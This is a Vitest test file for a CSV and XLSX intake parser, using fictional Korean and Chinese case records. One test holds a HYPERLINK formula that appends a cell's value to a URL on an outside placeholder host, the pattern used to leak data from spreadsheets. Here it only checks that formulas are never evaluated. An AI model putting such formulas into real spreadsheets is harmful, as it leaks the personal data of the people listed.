import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { IntakeError, encodeText, parseTable, type ParseOptions } from '../src/index.ts';

const utf8 = (s: string) => new TextEncoder().encode(s);

async function failure(bytes: Uint8Array, options?: ParseOptions): Promise<IntakeError> {
  try {
    await parseTable(bytes, options);
  } catch (e) {
    if (e instanceof IntakeError) return e;
    throw e;
  }
  throw new Error('expected an IntakeError');
}

async function xlsx(build: (sheet: ExcelJS.Worksheet) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  build(wb.addWorksheet('cases'));
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

describe('CSV', () => {
  it('reads quoted fields, doubled quotes and line breaks inside quotes, numbering rows and lines', async () => {
    const t = await parseTable(utf8('이름,메모\n김영희,"첫 줄\n둘째 줄"\n"박, 순옥","그는 ""안녕"" 했다"\n'));
    expect(t.headers).toEqual(['이름', '메모']);
    expect(t.rows).toEqual([
      { row: 2, line: 2, cells: ['김영희', '첫 줄\n둘째 줄'] },
      { row: 3, line: 4, cells: ['박, 순옥', '그는 "안녕" 했다'] },
    ]);
    expect(t.problems).toEqual([]);
  });

  it('skips a title row above the headers, or takes the header row it is told', async () => {
    const text = '2024년 사례 목록,,\n작성: 상담팀,,\n\n이름,생년월일,성별\n김영희,2012,여\n';
    const t = await parseTable(utf8(text));
    expect(t.headerRow).toBe(4);
    expect(t.headers).toEqual(['이름', '생년월일', '성별']);
    expect(t.rows).toEqual([{ row: 5, line: 5, cells: ['김영희', '2012', '여'] }]);
    expect(t.problems).toEqual([]);
    const told = await parseTable(utf8(text), { headerRow: 5 });
    expect(told.headers).toEqual(['김영희', '2012', '여']);
    expect((await failure(utf8(text), { headerRow: 3 })).code).toBe('intake.no_header');
    // A header with unnamed columns is still the header.
    const sparse = await parseTable(utf8('이름,,,생년월일,,\n김영희,a,b,2012,c,d\n'));
    expect(sparse.headerRow).toBe(1);
  });

  it('detects tab and semicolon delimiters (UTF-16 "Unicode text" exports are tab-separated)', async () => {
    const tab = await parseTable(encodeText('姓名\t出生日期\n李美玲\t2012年\n', 'utf-16le', { bom: true }));
    expect(tab.delimiter).toBe('\t');
    expect(tab.rows[0]!.cells).toEqual(['李美玲', '2012年']);
    const semi = await parseTable(utf8('name;birth\nKim;2012\n'));
    expect(semi.delimiter).toBe(';');
  });

  it('reports ragged rows by row and line, and ignores trailing empty cells', async () => {
    const t = await parseTable(utf8('이름,생년월일,성별\n김영희,2012,여\n박,순옥,2010,여\n최철호,2011\n이미영,2012,여,,\n'));
    expect(t.problems.map((p) => [p.code, p.row, p.line])).toEqual([
      ['ragged_row', 3, 3],
      ['ragged_row', 4, 4],
    ]);
    expect(t.problems[0]!.message).toMatch(/Row 3 \(line 3\) has 4 cells but the header has 3/);
    expect(t.rows).toHaveLength(4);
  });

  it('an unclosed quote is a clear error with its line, without quoting the content', async () => {
    const e = await failure(utf8('이름,메모\n김영희,ok\n박순옥,"비밀 메모\n'));
    expect(e.code).toBe('intake.csv_malformed');
    expect(e.message).toMatch(/never closed/);
    expect(e.message).not.toMatch(/비밀/);
  });

  it('a 10 MB cell is refused under the cell-size limit, naming row and column', async () => {
    const big = 'x'.repeat(10 * 1024 * 1024);
    const e = await failure(utf8(`이름,메모\n김영희,${big}\n`));
    expect(e.code).toBe('intake.cell_too_large');
    expect(e.where).toMatchObject({ row: 2, column: 2, columnLetter: 'B' });
    expect(e.message).toMatch(/limit is 32767/);
    const small = await failure(utf8('이름\n김영희\n'), { limits: { maxCellChars: 2 } });
    expect(small.code).toBe('intake.cell_too_large');
  });

  it('enforces row, column and size limits', async () => {
    expect((await failure(utf8('a\n1\n2\n3\n'), { limits: { maxRows: 2 } })).code).toBe('intake.too_many_rows');
    expect((await failure(utf8('a,b,c\n'), { limits: { maxColumns: 2 } })).code).toBe('intake.too_many_columns');
    expect((await failure(utf8('a\n1\n'), { limits: { maxBytes: 3 } })).code).toBe('intake.file_too_large');
    expect((await failure(utf8('\n\n,,\n'))).code).toBe('intake.no_header');
  });
});

describe('XLSX', () => {
  it('reads strings, numbers, dates at their shown precision, rich text and cached formula values', async () => {
    const bytes = await xlsx((s) => {
      s.addRow(['이름', '생년', '생년월일', '이별', '메모', '계산']);
      s.addRow(['김영희', 2012, new Date(Date.UTC(2012, 4, 3)), new Date(Date.UTC(2015, 2, 1)), { richText: [{ text: '굵게 ' }, { text: '보통' }] }, { formula: 'B2+1', result: 2013 }]);
      s.getCell('D2').numFmt = 'yyyy-mm';
      s.getCell('C2').numFmt = 'yyyy-mm-dd';
    });
    const t = await parseTable(bytes);
    expect(t.format).toBe('xlsx');
    expect(t.sheet).toBe('cases');
    expect(t.rows[0]!.cells).toEqual(['김영희', '2012', '2012-05-03', '2015-03', '굵게 보통', '2013']);
  });

  it('never evaluates a formula: without a saved value the cell is empty and reported', async () => {
    const bytes = await xlsx((s) => {
      s.addRow(['이름', '메모']);
      s.addRow(['김영희', { formula: 'HYPERLINK("http://example.invalid/?"&A2,"x")' }]);
    });
    const t = await parseTable(bytes);
    expect(t.rows[0]!.cells).toEqual(['김영희', '']);
    expect(t.problems).toMatchObject([{ row: 2, column: 2, columnLetter: 'B', code: 'formula_without_value' }]);
  });

  it('a truncated file is a clear error, never a crash', async () => {
    const bytes = await xlsx((s) => {
      s.addRow(['이름']);
      for (let i = 0; i < 50; i++) s.addRow([`김영희${i}`]);
    });
    for (const cut of [10, Math.floor(bytes.length / 2), bytes.length - 10]) {
      const e = await failure(bytes.subarray(0, cut));
      expect(e.code).toBe('intake.xlsx_corrupt');
      expect(e.message).toMatch(/damaged or incomplete/);
    }
  });

  it('a workbook that unpacks beyond the limit is refused before it is unpacked', async () => {
    const bytes = await xlsx((s) => {
      s.addRow(['이름']);
      for (let i = 0; i < 2000; i++) s.addRow(['김영희']);
    });
    const e = await failure(bytes, { limits: { maxUnzippedBytes: 50_000 } });
    expect(e.code).toBe('intake.file_too_large');
    expect(e.message).toMatch(/unpacks to \d+ bytes/);
  });

  it('an old .xls file is refused with advice', async () => {
    const e = await failure(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]));
    expect(e.message).toMatch(/save it as \.xlsx/);
  });

  it('a 10 MB cell is refused under the cell-size limit, naming row and column', async () => {
    const bytes = await xlsx((s) => {
      s.addRow(['이름', '메모']);
      s.addRow(['김영희', 'y'.repeat(10 * 1024 * 1024)]);
    });
    const e = await failure(bytes);
    expect(e.code).toBe('intake.cell_too_large');
    expect(e.where).toMatchObject({ row: 2, column: 2, columnLetter: 'B' });
  });

  it('skips a title row in a sheet too', async () => {
    const bytes = await xlsx((s) => {
      s.addRow(['연변 지역 사례 (가상 데이터)']);
      s.addRow([]);
      s.addRow(['신청인 이름', '자녀 이름', '관계']);
      s.addRow(['김영희', '이미영', '딸']);
    });
    const t = await parseTable(bytes);
    expect(t.headerRow).toBe(3);
    expect(t.rows).toEqual([{ row: 4, cells: ['김영희', '이미영', '딸'] }]);
  });

  it('reports values beyond the header as ragged, and picks a sheet by name or position', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('empty');
    const s = wb.addWorksheet('data');
    s.addRow(['이름']);
    s.addRow(['김영희', '남는 값']);
    const bytes = new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
    const t = await parseTable(bytes);
    expect(t.sheet).toBe('data');
    expect(t.problems).toMatchObject([{ row: 2, code: 'ragged_row' }]);
    expect((await parseTable(bytes, { sheet: 2 })).sheet).toBe('data');
    expect((await failure(bytes, { sheet: 'nope' })).code).toBe('intake.xlsx_no_sheet');
  });
});
